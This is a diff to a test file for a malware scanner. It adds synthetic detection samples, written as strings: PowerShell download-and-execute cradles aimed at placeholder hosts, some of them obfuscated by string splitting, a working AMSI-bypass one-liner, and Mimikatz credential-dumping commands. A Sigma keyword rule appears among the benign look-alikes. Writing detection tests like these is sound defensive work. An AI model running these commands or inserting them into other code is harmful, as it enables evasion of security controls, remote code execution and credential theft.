@@ -8,7 +8,7 @@ import * as path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import * as zlib from "node:zlib";
 import { tar, zip } from "../support/archives";
-import { EICAR, ROOT, json, ring3, tempDir, write, type Json } from "./helpers";
+import { EICAR, ROOT, json, ring3, ring3Async, tempDir, write, type Json } from "./helpers";
 
 /** PE/ELF stand-ins: the magic, zero padding, then the given parts. No code, nothing runnable. */
 const pe = (...parts: (string | Buffer)[]) => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(126), ...parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : p))]);
@@ -116,6 +116,31 @@ const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
     ids: ["ring3.script.powershell_download_cradle"],
     data: "Start-Process PowerShell.exe -WindowStyle Hidden -ArgumentList \"-c IEX (New-Object Net.WebClient).DownloadString('https://updates.example.invalid/a.ps1')\"\r\n",
   },
+  // The classic cradle with the URL in a variable, in four spellings (issue 10's misses).
+  "scripts/cradle.ps1": {
+    ids: ["ring3.script.powershell_download_execute"],
+    data: "$u = 'https://updates.example.invalid/p.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n",
+  },
+  "scripts/cradle-lower.txt": {
+    ids: ["ring3.script.powershell_download_execute"],
+    data: "$url=$env:TEMP+'x'; iex ((new-object system.net.webclient).downloadstring($url))\n",
+  },
+  "scripts/cradle-iwr.ps1": {
+    ids: ["ring3.script.powershell_download_execute"],
+    data: "$s = \"https://cdn.example.invalid/s\"\r\nInvoke-WebRequest -Uri $s -UseBasicParsing | Invoke-Expression\r\n",
+  },
+  "scripts/cradle-split.ps1": {
+    ids: ["ring3.script.powershell_download_execute"],
+    data: "$w = New-Object ('Net.Web'+'Client'); $c = $w.('Down'+'loadString').Invoke('https://x.example.invalid/a'); &('ie'+'x') $c\r\n",
+  },
+  "scripts/amsi.ps1": {
+    ids: ["ring3.script.amsi_bypass"],
+    data: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\r\n",
+  },
+  "scripts/amsi-split.ps1": {
+    ids: ["ring3.script.amsi_bypass"],
+    data: "$a=[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils'); $f=$a.GetField('amsi'+'InitFailed','NonPublic,Static'); $f.SetValue($null,$true)\r\n",
+  },
   "scripts/launch.cmd": { ids: ["ring3.script.powershell_encoded_command"], data: `powershell.exe -NoP -NonI -W Hidden -enc ${ENCODED}\r\n` },
   "scripts/invoice.vbs": {
     ids: ["ring3.script.wsh_downloader"],
@@ -168,6 +193,8 @@ const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
     data: `{"pools": [{"url": "stratum+tcp://pool.example.invalid:3333", "user": "${XMR}", "pass": "x"}]}\n`,
   },
   "tools/mimi.exe": { ids: ["ring3.tool.mimikatz"], data: pe(wide("gentilkiwi"), wide("sekurlsa"), wide("logonPasswords"), wide("lsadump")) },
+  "tools/dump.txt": { ids: ["ring3.tool.mimikatz_commands"], data: "privilege::debug\nsekurlsa::logonpasswords\nlsadump::sam\nexit\n" },
+  "tools/run.bat": { ids: ["ring3.tool.mimikatz_commands"], data: 'm.exe "PRIVILEGE::Debug" "LSADUMP::Sam" exit\r\n' },
   "tools/Invoke-Mimikatz.ps1": {
     ids: ["ring3.tool.invoke_mimikatz"],
     data: "function Invoke-Mimikatz {\n$PEBytes64 = 'TVqQAAMAAAAEAAAA'\n$PEBytes32 = 'TVqQAAMAAAAEAAAA'\n}\n",
@@ -201,6 +228,13 @@ const BENIGN: Record<string, string> = {
   "benign/app/package.json": '{\n  "name": "app",\n  "scripts": {\n    "postinstall": "node scripts/postinstall.js",\n    "build": "tsc"\n  }\n}\n',
   "benign/install-choco.ps1":
     "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n",
+  // Look-alikes of the cradle, AMSI and mimikatz rules: a downloader that saves but does not run,
+  // running a local command, a literal https installer URL piped to iex, documentation.
+  "benign/fetch.ps1": "$u = 'https://example.invalid/f.zip'\r\n(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\f.zip\")\r\nInvoke-WebRequest -Uri $u -OutFile f.zip\r\nInvoke-Expression $localCommand\r\n",
+  "benign/install-scoop.ps1": "irm get.scoop.sh | iex\r\n",
+  "benign/amsi-notes.txt": "AMSI (AmsiUtils in System.Management.Automation) scans scripts; the amsiInitFailed field is private.\n",
+  "benign/mimikatz-cheatsheet.md": "# Mimikatz\n\n    privilege::debug\n    sekurlsa::logonpasswords\n    lsadump::sam\n",
+  "benign/sigma-mimikatz.yml": "title: Mimikatz Use\ndetection:\n  keywords:\n    - 'sekurlsa::logonpasswords'\n    - 'lsadump::sam'\n  condition: keywords\n",
   "benign/form.php": "<?php $name = htmlspecialchars($_POST['name']); $raw = base64_decode($payload); echo $name; ?>\n",
   "benign/config.js": "const cfg = { debug: process.env.DEBUG === '1' }; console.log(JSON.stringify(cfg));\n",
   "benign/notes.txt": "Mimikatz by gentilkiwi dumps credentials with sekurlsa::logonpasswords; Cobalt Strike beacons print '%s as %s\\%s: %d'.\n",
@@ -218,7 +252,9 @@ beforeAll(() => {
   dir = tempDir("ring3-sigs-");
   for (const [rel, s] of Object.entries(SAMPLES)) write(dir, rel, s.data);
   for (const [rel, text] of Object.entries(BENIGN)) write(dir, rel, text);
-  const run = ring3(["scan", "--format", "json", dir], { timeout: 300_000 });
+  // The core set alone: these samples are written for its rules (the packs' rules are
+  // test/e2e/packs.test.ts's, and the false-positive scan below runs every default pack).
+  const run = ring3(["scan", "--format", "json", "--pack", "ring3", dir], { timeout: 300_000 });
   expect(run.code, run.stderr).toBe(1);
   doc = json(run);
 });
@@ -241,7 +277,7 @@ describe("the bundled set on synthesised samples (one scan)", () => {
     const run = ring3(["rules", "list", "--json"]);
     expect(run.code).toBe(0);
     const ids = json(run)
-      .rules.filter((r: Json) => r.engine === "yara" && r.category !== "guard")
+      .rules.filter((r: Json) => r.engine === "yara" && r.category !== "guard" && r.source.startsWith("bundled/yara/"))
       .map((r: Json) => r.id)
       .sort();
     const covered = [...new Set(Object.values(SAMPLES).flatMap((s) => s.ids))].sort();
@@ -283,7 +319,7 @@ describe("the bundled set inside archives", () => {
       const tgz = zlib.gzipSync(tar([{ name: "pkg/inner.zip", data: inner }]));
       fs.writeFileSync(path.join(d, "samples.zip"), flat);
       fs.writeFileSync(path.join(d, "nested.zip"), zip([{ name: "dist/pkg.tgz", data: tgz, method: "store" }]));
-      const run = ring3(["scan", "--format", "json", d], { timeout: 300_000 });
+      const run = ring3(["scan", "--format", "json", "--pack", "ring3", d], { timeout: 300_000 });
       expect(run.code, run.stderr).toBe(1);
       const out = json(run);
       const member = (file: string, chain: string[]) =>
@@ -309,8 +345,9 @@ describe("the bundled set inside archives", () => {
 });
 
 describe("false positives", () => {
-  it("finds nothing in the project's own node_modules", () => {
-    const run = ring3(["scan", "--format", "json", path.join(ROOT, "node_modules")], { timeout: 900_000 });
+  it("finds nothing in the project's own node_modules", async () => {
+    // Every default pack: a minute or two, so without blocking the test worker.
+    const run = await ring3Async(["scan", "--format", "json", path.join(ROOT, "node_modules")]);
     const d = json(run);
     const hits = d.results.filter((r: Json) => r.verdict === "detected").map((r: Json) => `${r.path}: ${r.findings.map((f: Json) => f.rule).join(", ")}`);
     expect(hits).toEqual([]);
